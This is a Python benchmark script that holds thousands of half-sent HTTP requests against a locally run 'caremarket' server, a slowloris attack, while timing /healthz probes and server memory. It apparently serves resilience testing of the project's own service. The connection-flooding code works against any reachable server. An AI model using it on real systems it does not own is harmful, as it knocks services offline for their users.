#!/usr/bin/env python3
"""Issue 17 item 3: hold N half-sent requests against a running caremarket (slowloris) and time
/healthz while they are held and after they stop.

Each attacking connection sends the start of a request and then one more header byte every few
seconds, never finishing; when the server closes it, it is opened again, so the attack keeps
N connections for the whole run. The attack comes from the machine's own network address (`--attack-from`, not loopback, as a
real attacker's is not; the server must listen on it, e.g. `--host 0.0.0.0`) and /healthz from
127.0.0.1 (the monitoring host).

    ulimit -n 65536; python3 benchmarks/slowloris.py --port 8100 --attack-from 192.0.2.2 --connections 20000 --seconds 120 --pid <server pid>

Standard library only. Prints one line per probe and a summary.
"""
import argparse, asyncio, os, time


def rss_mib(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024
    except OSError:
        return None


def fds(pid):
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return None


async def attacker(host, port, stop, stats):
    # The attack connects to the address it comes from, so it reaches the server by that network.
    while not stop.is_set():
        try:
            r, w = await asyncio.wait_for(asyncio.open_connection(host, port, local_addr=(host, 0)), 10)
        except (OSError, asyncio.TimeoutError):
            stats["connect_failures"] += 1
            await asyncio.sleep(1)
            continue
        stats["opened"] += 1
        stats["held"] += 1
        try:
            w.write(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
            await w.drain()
            while not stop.is_set():
                await asyncio.sleep(5)
                w.write(b"a")
                await w.drain()
                if r.at_eof():
                    break
        except (OSError, ConnectionError):
            pass
        finally:
            stats["held"] -= 1
            stats["closed_by_server"] += 0 if stop.is_set() else 1
            w.close()


def healthz_blocking(host, port):
    # A plain socket on its own thread: the probe must not wait behind the attack's event loop,
    # which is busy with thousands of connections (an earlier version measured its own loop).
    import socket
    start = time.monotonic()
    try:
        with socket.create_connection((host, port), timeout=30) as s:
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
            data = b""
            while True:
                chunk = s.recv(4096)
                if not chunk:
                    break
                data += chunk
        ok = data.startswith(b"HTTP/1.1 200")
    except OSError:
        ok = False
    return ok, time.monotonic() - start


def prober(host, port, pid, seconds, out):
    # Its own process: the attack's event loop is saturated by thousands of connections, and a
    # probe sharing it measures the loop, not the server (an earlier version did).
    began = time.monotonic()
    while time.monotonic() - began < seconds:
        time.sleep(5)
        ok, t = healthz_blocking(host, port)
        out.put((ok, t))
        print(f"t={time.monotonic()-began:5.0f}s healthz ok={ok} in {t*1000:.0f} ms; server RSS {rss_mib(pid)} MiB, open files {fds(pid)}", flush=True)


async def main():
    a = argparse.ArgumentParser()
    a.add_argument("--host", default="127.0.0.1", help="where /healthz is asked")
    a.add_argument("--attack-from", required=True, help="the non-loopback address the attack connects from and to")
    a.add_argument("--port", type=int, default=8100)
    a.add_argument("--connections", type=int, default=20000)
    a.add_argument("--seconds", type=int, default=120)
    a.add_argument("--pid", type=int)
    o = a.parse_args()
    stats = {"opened": 0, "held": 0, "closed_by_server": 0, "connect_failures": 0}
    stop = asyncio.Event()
    ok, t = healthz_blocking(o.host, o.port)
    print(f"before: healthz ok={ok} in {t*1000:.0f} ms; server RSS {rss_mib(o.pid)} MiB, open files {fds(o.pid)}", flush=True)
    tasks = []
    for i in range(o.connections):
        tasks.append(asyncio.create_task(attacker(o.attack_from, o.port, stop, stats)))
        if i % 500 == 499:
            await asyncio.sleep(0.05)
    import multiprocessing
    results = multiprocessing.Queue()
    probe = multiprocessing.Process(target=prober, args=(o.host, o.port, o.pid, o.seconds, results))
    probe.start()
    while probe.is_alive():
        await asyncio.sleep(1)
    probes = []
    while not results.empty():
        probes.append(results.get())
    print(f"attack: opened {stats['opened']}, closed by server {stats['closed_by_server']}, connect failures {stats['connect_failures']}", flush=True)
    stop.set()
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    await asyncio.sleep(2)
    ok, t = healthz_blocking(o.host, o.port)
    print(f"after: healthz ok={ok} in {t*1000:.0f} ms; server RSS {rss_mib(o.pid)} MiB, open files {fds(o.pid)}", flush=True)
    oks = [t for ok, t in probes if ok]
    print(f"summary: {len(probes)} probes during the attack, {len(oks)} answered; slowest answered {max(oks)*1000 if oks else 0:.0f} ms; attack connections {o.connections}")


asyncio.run(main())
